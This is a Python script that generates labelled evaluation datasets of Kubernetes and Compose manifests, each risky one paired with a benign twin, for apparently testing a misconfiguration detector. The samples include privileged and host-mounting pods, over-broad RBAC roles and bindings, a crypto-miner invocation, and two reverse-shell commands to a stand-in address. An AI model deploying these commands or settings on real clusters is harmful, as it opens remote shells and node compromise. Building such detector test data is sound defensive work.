#!/usr/bin/env python3
"""Writes the datasets manifests-develop and manifests-holdout: for each dangerous setting a manifest that asks for it and a twin that
does not, written for this purpose. Nothing of it ever ran. The two runs ask in other kinds of objects and in other spellings.

usage: manifests.py CORPUS        (the folder that the datasets lie in)
"""
import copy
import json
import os
import sys

IMAGE = "registry.shop.example/shop/web:2.3"

# A pod: name, the detections that it must raise, those that it may, what is added to the pod's spec and to its container, in the
# first run and in the second; then the twin's.

def mount(path, read_only=False, at="/data", sub=None, kind=None):
    """A folder of the node."""
    volume = {"name": "node", "hostPath": {"path": path, **({"type": kind} if kind else {})}}
    return {"volumes": [volume]}, {"volumeMounts": [{"name": "node", "mountPath": at, **({"readOnly": True} if read_only else {}), **({"subPath": sub} if sub else {})}]}


def context(**members):
    return {}, {"securityContext": members}


def spec(**members):
    return members, {}


EMPTY = ({"volumes": [{"name": "node", "emptyDir": {}}]}, {"volumeMounts": [{"name": "node", "mountPath": "/data"}]})
SETTINGS = ({"volumes": [{"name": "node", "configMap": {"name": "settings"}}]}, {"volumeMounts": [{"name": "node", "mountPath": "/etc/web", "readOnly": True}]})

PODS = [
    ("privileged", ["privileged-container"], [], context(privileged=True), context(privileged=True, runAsNonRoot=False), context(privileged=False)),
    ("host-pid", ["host-namespaces-shared"], [], spec(hostPID=True), spec(hostPID=True, shareProcessNamespace=True), spec(shareProcessNamespace=True)),
    ("host-network", ["host-namespaces-shared"], [], spec(hostNetwork=True), spec(hostNetwork=True, dnsPolicy="ClusterFirstWithHostNet"), spec(dnsPolicy="ClusterFirst")),
    ("host-ipc", ["host-namespaces-shared"], [], spec(hostIPC=True), spec(hostIPC=True, hostPID=False), spec(hostIPC=False)),
    ("node-root", ["host-root-mount"], ["socket-parent-mount", "sensitive-mount-rw", "sensitive-mount-ro"], mount("/"), mount("//", at="/host", kind="Directory"), EMPTY),
    ("node-root-read", ["host-root-mount"], ["socket-parent-mount", "sensitive-mount-ro"], mount("/", True), mount("/", True, "/rootfs"), SETTINGS),
    ("docker-socket", ["docker-socket-mount"], [], mount("/var/run/docker.sock", at="/var/run/docker.sock"), mount("/run/docker.sock", True, "/tmp/d", kind="Socket"), EMPTY),
    ("containerd-socket", ["docker-socket-mount"], [], mount("/run/containerd/containerd.sock"), mount("/var/run/crio/crio.sock"), SETTINGS),
    ("run-folder", ["socket-parent-mount"], ["sensitive-mount-rw"], mount("/var/run"), mount("/run"), mount("/var/lib/shop")),
    ("etc-write", ["sensitive-mount-rw"], [], mount("/etc"), mount("/etc/cron.d"), mount("/srv/shop/etc")),
    ("ssh-keys", ["sensitive-mount-rw"], [], mount("/root/.ssh"), mount("/home/ops/.ssh/"), mount("/srv/keys")),
    ("kubelet-read", ["sensitive-mount-ro"], [], mount("/var/lib/kubelet", True), mount("/etc/kubernetes/", True), SETTINGS),
    ("cap-sys-admin", ["dangerous-capability-added"], ["pod-capability-beyond-baseline"], context(capabilities={"add": ["SYS_ADMIN"]}), context(capabilities={"drop": ["ALL"], "add": ["CAP_SYS_ADMIN"]}),
     context(capabilities={"drop": ["ALL"], "add": ["NET_BIND_SERVICE"]})),
    ("cap-all", ["dangerous-capability-added"], ["pod-capability-beyond-baseline"], context(capabilities={"add": ["ALL"]}), context(capabilities={"add": ["all"]}), context(capabilities={"drop": ["ALL"]})),
    ("cap-ptrace", ["dangerous-capability-added"], ["pod-capability-beyond-baseline"], context(capabilities={"add": ["SYS_PTRACE"]}), context(capabilities={"add": ["NET_BIND_SERVICE", "SYS_MODULE"]}),
     context(capabilities={"add": ["CHOWN"]})),
    ("seccomp-off", ["container-confinement-disabled"], [], ({"securityContext": {"seccompProfile": {"type": "Unconfined"}}}, {}), context(seccompProfile={"type": "Unconfined"}),
     context(seccompProfile={"type": "RuntimeDefault"})),
    ("apparmor-off", ["container-confinement-disabled"], [], context(appArmorProfile={"type": "Unconfined"}), ({"securityContext": {"appArmorProfile": {"type": "Unconfined"}}}, {}),
     context(appArmorProfile={"type": "RuntimeDefault"})),
    ("proc-unmasked", ["pod-proc-unmasked"], ["container-confinement-disabled"], context(procMount="Unmasked"), ({"hostUsers": False}, {"securityContext": {"procMount": "Unmasked"}}), context(procMount="Default")),
    ("as-root", ["pod-runs-as-root"], [], context(runAsUser=0), ({"securityContext": {"runAsUser": 0, "runAsNonRoot": False}}, {}), context(runAsUser=10001, runAsNonRoot=True)),
    ("node-port", ["pod-host-port"], [], ({}, {"ports": [{"containerPort": 8080, "hostPort": 80}]}), ({}, {"ports": [{"containerPort": 53, "hostPort": 53, "protocol": "UDP"}]}),
     ({}, {"ports": [{"containerPort": 8080}]})),
    ("kernel-parameters", ["unsafe-sysctl-set"], [], ({"securityContext": {"sysctls": [{"name": "kernel.msgmax", "value": "65536"}]}}, {}),
     ({"securityContext": {"sysctls": [{"name": "net.core.somaxconn", "value": "4096"}]}}, {}), ({"securityContext": {"sysctls": [{"name": "net.ipv4.ip_local_port_range", "value": "1024 65535"}]}}, {})),
    ("control-plane", ["control-plane-node-targeted"], [], spec(nodeSelector={"node-role.kubernetes.io/control-plane": ""}),
     spec(nodeSelector={"node-role.kubernetes.io/master": "true"}, tolerations=[{"key": "node-role.kubernetes.io/master", "operator": "Exists"}]),
     spec(nodeSelector={"kubernetes.io/os": "linux"}, tolerations=[{"key": "dedicated", "operator": "Exists"}])),
    ("shell-outwards", ["network-shell-opened"], ["attack-tool-image-started"], ({}, {"command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"]}),
     ({}, {"command": ["sh"], "args": ["-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"]}), ({}, {"command": ["sh", "-c", "exec web --listen :8080"]})),
    ("miner", ["miner-run"], ["miner-image-started"], ({}, {"args": ["-o", "stratum+tcp://pool.example:3333", "-u", "wallet"]}), ({}, {"command": ["/app/worker", "--url=stratum+ssl://pool.example:443", "--coin=monero"]}),
     ({}, {"args": ["--url=https://search:8443", "--workers=4"]})),
]


def rbac(kind, name, namespace=None, **members):
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": {"name": name, **({"namespace": namespace} if namespace else {})}, **members}


def role(kind, rules, namespace=None):
    return rbac(kind, "support", namespace, rules=[{"apiGroups": groups, "resources": resources, "verbs": verbs} for groups, resources, verbs in rules])


def binding(kind, target, subjects, namespace=None):
    return rbac(kind, "support", namespace, roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": target}, subjects=subjects)


def group(name):
    return [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": name}]


def account(name, namespace="shop"):
    return [{"kind": "ServiceAccount", "name": name, "namespace": namespace}]


def thing(version, kind, name, namespace="shop", meta=None, **members):
    return {"apiVersion": version, "kind": kind, "metadata": {"name": name, **({"namespace": namespace} if namespace else {}), **(meta or {})}, **members}


def service(**members):
    return thing("v1", "Service", "web", spec={"selector": {"app": "web"}, "ports": [{"port": 80}], **members})


# Other objects: name, must, may, first run, second run, twin.
OBJECTS = [
    ("role-star", ["wildcard-role-written"], [], role("ClusterRole", [(["*"], ["*"], ["*"])]), role("Role", [(["apps"], ["*"], ["*"])], "shop"), role("Role", [(["apps"], ["deployments"], ["get", "list"])], "shop")),
    ("role-escalates", ["escalating-role-written"], ["writing-role-written"], role("ClusterRole", [(["rbac.authorization.k8s.io"], ["clusterroles"], ["escalate", "bind"])]),
     role("ClusterRole", [([""], ["users", "groups"], ["impersonate"])]), role("ClusterRole", [(["rbac.authorization.k8s.io"], ["clusterroles"], ["get", "list"])])),
    ("role-secrets", ["secret-reading-role-written"], [], role("ClusterRole", [([""], ["secrets"], ["get", "list"])]), role("Role", [([""], ["configmaps", "secrets"], ["watch"])], "shop"), role("Role", [([""], ["configmaps"], ["get"])], "shop")),
    ("role-exec", ["pod-entering-role-written"], ["writing-role-written"], role("Role", [([""], ["pods", "pods/exec"], ["get", "create"])], "shop"), role("ClusterRole", [([""], ["pods/attach"], ["create"])]), role("Role", [([""], ["pods", "pods/log"], ["get"])], "shop")),
    ("role-kubelet", ["node-proxy-role-written"], ["writing-role-written"], role("ClusterRole", [([""], ["nodes/proxy"], ["get"])]), role("ClusterRole", [([""], ["nodes", "nodes/*"], ["create"])]), role("ClusterRole", [([""], ["nodes/metrics", "nodes/stats"], ["get"])])),
    ("admin-bound", ["cluster-admin-bound"], ["default-account-bound"], binding("ClusterRoleBinding", "cluster-admin", account("web")), binding("RoleBinding", "cluster-admin", account("default"), "shop"), binding("RoleBinding", "edit", account("web"), "shop")),
    ("everybody-bound", ["role-bound-to-everybody"], [], binding("ClusterRoleBinding", "view", group("system:unauthenticated")), binding("RoleBinding", "edit", group("system:authenticated"), "shop"), binding("ClusterRoleBinding", "view", group("shop:developers"))),
    ("default-bound", ["default-account-bound"], [], binding("RoleBinding", "edit", account("default"), "shop"), binding("ClusterRoleBinding", "view", account("default")), binding("RoleBinding", "view", account("web"), "shop")),
    ("external-address", ["service-takes-external-address"], [], service(externalIPs=["203.0.113.5"]), service(type="ClusterIP", externalIPs=["8.8.8.8", "192.0.2.1"]), service()),
    ("node-port-service", ["service-opened-on-node-port"], [], service(type="NodePort"), service(type="NodePort", ports=[{"port": 5432, "nodePort": 30432}]), service(type="ClusterIP")),
    ("volume-of-node", ["host-path-volume-created"], [], thing("v1", "PersistentVolume", "data", None, spec={"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/etc"}}),
     thing("v1", "PersistentVolume", "data", None, spec={"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"], "hostPath": {"path": "/var/run/"}}),
     thing("v1", "PersistentVolume", "data", None, spec={"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "csi": {"driver": "disk.example", "volumeHandle": "v1"}})),
    ("token-for-ever", ["permanent-account-token-created"], [], thing("v1", "Secret", "token", meta={"annotations": {"kubernetes.io/service-account.name": "web"}}, type="kubernetes.io/service-account-token"),
     thing("v1", "Secret", "build-robot", "kube-system", {"annotations": {"kubernetes.io/service-account.name": "default"}}, type="kubernetes.io/service-account-token"),
     thing("v1", "Secret", "login", type="kubernetes.io/basic-auth", stringData={"username": "web", "password": "stand-in"})),
    ("bootstrap-token", ["bootstrap-token-created"], [], thing("v1", "Secret", "bootstrap-token-ab12cd", "kube-system", type="bootstrap.kubernetes.io/token", stringData={"token-id": "ab12cd"}),
     thing("v1", "Secret", "bootstrap-token-0zz9xx", "kube-system", type="bootstrap.kubernetes.io/token", stringData={"token-id": "0zz9xx", "usage-bootstrap-authentication": "true"}),
     thing("v1", "Secret", "registry", type="kubernetes.io/dockerconfigjson", stringData={".dockerconfigjson": "{}"})),
    ("password-in-map", ["credentials-in-configmap"], [], thing("v1", "ConfigMap", "settings", data={"DB_PASSWORD": "stand-in"}), thing("v1", "ConfigMap", "settings", data={"app.ini": "[mail]\nhost = mail\npassword = stand-in\n"}),
     thing("v1", "ConfigMap", "settings", data={"DB_HOST": "database", "PASSWORD_FILE": "/run/secrets/db"})),
    ("snippet", ["ingress-snippet-written"], ["ingress-without-tls"], thing("networking.k8s.io/v1", "Ingress", "web", meta={"annotations": {"nginx.ingress.kubernetes.io/configuration-snippet": "alias /;"}}, spec={"tls": [{"hosts": ["a.example"]}]}),
     thing("networking.k8s.io/v1", "Ingress", "web", meta={"annotations": {"nginx.ingress.kubernetes.io/auth-snippet": "lua_need_request_body on;"}}, spec={"tls": [{"hosts": ["a.example"]}]}),
     thing("networking.k8s.io/v1", "Ingress", "web", meta={"annotations": {"nginx.ingress.kubernetes.io/proxy-body-size": "8m"}}, spec={"tls": [{"hosts": ["a.example"]}]})),
    ("namespace-open", ["pod-security-lowered"], [], thing("v1", "Namespace", "shop", None, {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}),
     thing("v1", "Namespace", "tools", None, {"labels": {"team": "a", "pod-security.kubernetes.io/enforce": "privileged", "pod-security.kubernetes.io/enforce-version": "latest"}}),
     thing("v1", "Namespace", "shop", None, {"labels": {"pod-security.kubernetes.io/enforce": "baseline", "pod-security.kubernetes.io/audit": "privileged"}})),
    ("api-served-elsewhere", ["api-service-registered"], [], thing("apiregistration.k8s.io/v1", "APIService", "v1beta1.metrics.k8s.io", None, spec={"service": {"name": "x", "namespace": "shop"}, "group": "metrics.k8s.io", "version": "v1beta1", "insecureSkipTLSVerify": True}),
     thing("apiregistration.k8s.io/v1", "APIService", "v1.audit.example", None, spec={"service": {"name": "x", "namespace": "shop", "port": 8443}, "group": "audit.example", "version": "v1"}),
     thing("apiextensions.k8s.io/v1", "CustomResourceDefinition", "carts.shop.example", None, spec={"group": "shop.example"})),
    ("addresses-by-hand", ["service-endpoints-written"], [], thing("v1", "Endpoints", "payments", subsets=[{"addresses": [{"ip": "203.0.113.7"}], "ports": [{"port": 443}]}]),
     thing("discovery.k8s.io/v1", "EndpointSlice", "payments-x", addressType="IPv4", endpoints=[{"addresses": ["203.0.113.7"]}]), service(type="ExternalName", externalName="payments.example")),
    ("certificate", ["client-certificate-requested"], [], thing("certificates.k8s.io/v1", "CertificateSigningRequest", "dev", None, spec={"signerName": "kubernetes.io/kube-apiserver-client", "request": "", "usages": ["client auth"]}),
     thing("certificates.k8s.io/v1", "CertificateSigningRequest", "ops-2", None, spec={"signerName": "kubernetes.io/kube-apiserver-client", "request": "", "expirationSeconds": 31536000, "usages": ["client auth"]}),
     thing("certificates.k8s.io/v1", "CertificateSigningRequest", "web", None, spec={"signerName": "shop.example/internal", "request": "", "usages": ["server auth"]})),
]

# Services of compose: name, must, may, first run, second run, twin.
SERVICES = [
    ("privileged", ["privileged-container"], [], {"privileged": True}, {"privileged": True, "read_only": True}, {"privileged": False}),
    ("host-pid", ["host-namespaces-shared"], [], {"pid": "host"}, {"pid": "host", "cap_drop": ["ALL"]}, {"init": True}),
    ("host-network", ["host-namespaces-shared"], [], {"network_mode": "host"}, {"network_mode": "host", "ports": []}, {"network_mode": "bridge"}),
    ("socket", ["docker-socket-mount"], [], {"volumes": ["/var/run/docker.sock:/var/run/docker.sock"]}, {"volumes": [{"type": "bind", "source": "/run/docker.sock", "target": "/d.sock", "read_only": True}]}, {"volumes": ["./docker:/docker"]}),
    ("root", ["host-root-mount"], ["socket-parent-mount", "sensitive-mount-rw"], {"volumes": ["/:/host"]}, {"volumes": [{"type": "bind", "source": "/", "target": "/rootfs"}]}, {"volumes": ["data:/host"]}),
    ("etc", ["sensitive-mount-rw"], [], {"volumes": ["/etc:/host/etc"]}, {"volumes": [{"type": "bind", "source": "/root/.ssh", "target": "/keys"}]}, {"volumes": ["/etc/localtime:/etc/localtime:ro"]}),
    ("capability", ["dangerous-capability-added"], [], {"cap_add": ["SYS_ADMIN"]}, {"cap_drop": ["ALL"], "cap_add": ["cap_sys_ptrace"]}, {"cap_drop": ["ALL"], "cap_add": ["NET_BIND_SERVICE"]}),
    ("unconfined", ["container-confinement-disabled"], [], {"security_opt": ["seccomp:unconfined"]}, {"security_opt": ["apparmor=unconfined"]}, {"security_opt": ["no-new-privileges:true"]}),
    ("disk", ["host-device-shared"], [], {"devices": ["/dev/sda:/dev/sda"]}, {"devices": ["/dev/nvme0n1:/dev/xvda:r"]}, {"devices": ["/dev/snd:/dev/snd"]}),
]

KINDS = {
    "develop": ["Pod", "Deployment", "DaemonSet"],
    "hold-out": ["StatefulSet", "Job", "CronJob", "ReplicaSet", "List"],
}


def merge(base, more):
    for key, value in more.items():
        if isinstance(value, dict) and isinstance(base.get(key), dict):
            merge(base[key], value)
        else:
            base[key] = value
    return base


def pod(kind, name, added):
    """A pod that is careful, but for what is added, in an object of that kind."""
    of_pod, of_container = added
    container = merge({"name": "web", "image": IMAGE, "securityContext": {"allowPrivilegeEscalation": False}, "resources": {"limits": {"memory": "64Mi", "cpu": "100m"}}}, copy.deepcopy(of_container))
    if "privileged" in container["securityContext"] or "capabilities" in container["securityContext"]:
        del container["securityContext"]["allowPrivilegeEscalation"]
    spec_ = merge({"containers": [container], "automountServiceAccountToken": False}, copy.deepcopy(of_pod))
    template = {"metadata": {"labels": {"app": name}}, "spec": spec_}
    if kind == "Pod":
        return thing("v1", "Pod", name, spec=spec_)
    if kind == "List":
        return {"apiVersion": "v1", "kind": "List", "items": [thing("v1", "Pod", name, spec=spec_)]}
    if kind == "Job":
        spec_["restartPolicy"] = "Never"
        return thing("batch/v1", "Job", name, spec={"template": template})
    if kind == "CronJob":
        spec_["restartPolicy"] = "OnFailure"
        return thing("batch/v1", "CronJob", name, spec={"schedule": "0 3 * * *", "jobTemplate": {"spec": {"template": template}}})
    return thing("apps/v1", kind, name, spec={"selector": {"matchLabels": {"app": name}}, "template": template})


def text(value, indent=0):
    """YAML in blocks; a scalar as JSON writes it, which YAML reads alike."""
    pad = "  " * indent
    if isinstance(value, dict) and value:
        return "".join(f"{pad}{key if key.replace('_', '').replace('-', '').isalnum() else json.dumps(key)}:" + inline(item, indent + 1) for key, item in value.items())
    if isinstance(value, list) and value:
        return "".join(f"{pad}-" + inline(item, indent + 1) for item in value)
    return f"{pad}{json.dumps(value)}\n"


def inline(item, indent):
    return "\n" + text(item, indent) if isinstance(item, (dict, list)) and item else f" {json.dumps(item)}\n"


HEAD = """\
# Written by corpus/record/cluster/manifests.py.
# Manifests that ask for a dangerous setting, and a twin of each that does not.
name: {name}
use: {use}
origin: >-
  Written for this purpose by corpus/record/cluster/manifests.py: never run, and no recording.
license: CC0-1.0
sources:
  - {{format: kubernetes, files: [kubernetes/*]}}
  - {{format: compose, files: [compose/*.yaml]}}
episodes:
"""


def main():
    corpus = sys.argv[1]
    for run, dataset in (("develop", "manifests-develop"), ("hold-out", "manifests-holdout")):
        folder, episodes = os.path.join(corpus, dataset), []
        for part in ("kubernetes", "compose"):
            os.makedirs(os.path.join(folder, part), exist_ok=True)
        second = run == "hold-out"

        def put(part, name, value, must=None, may=None):
            as_json = second and part == "kubernetes" and len(name) % 3 == 0
            file = f"{part}/{name}.{'json' if as_json else 'yaml'}"
            with open(os.path.join(folder, file), "w", encoding="utf-8") as out:
                out.write(json.dumps(value, indent=2) + "\n" if as_json else text(value))
            if must:
                episodes.append(f"  - {{name: {part}-{name}, files: [{file}], label: risky, expects: [{', '.join(must)}], allows: [{', '.join(may)}]}}\n")

        for number, (name, must, may, first, other, twin) in enumerate(PODS):
            kind = KINDS[run][number % len(KINDS[run])]
            put("kubernetes", name, pod(kind, name, other if second else first), must, may + (["cronjob-written"] if kind == "CronJob" else []) + (["daemonset-created"] if kind == "DaemonSet" else []))
            put("kubernetes", name + "-twin", pod("Deployment" if second else "Pod", name, twin))
        for name, must, may, first, other, twin in OBJECTS:
            put("kubernetes", name, other if second else first, must, may)
            put("kubernetes", name + "-twin", twin)
        for name, must, may, first, other, twin in SERVICES:
            put("compose", name, {"services": {"web": {"image": IMAGE, **(other if second else first)}}}, must, may)
            put("compose", name + "-twin", {"services": {"web": {"image": IMAGE, **twin}}})
        with open(os.path.join(folder, "corpus.yaml"), "w", encoding="utf-8") as out:
            out.write(HEAD.format(name=dataset, use=run) + "".join(episodes) + "default: benign\n")


main()
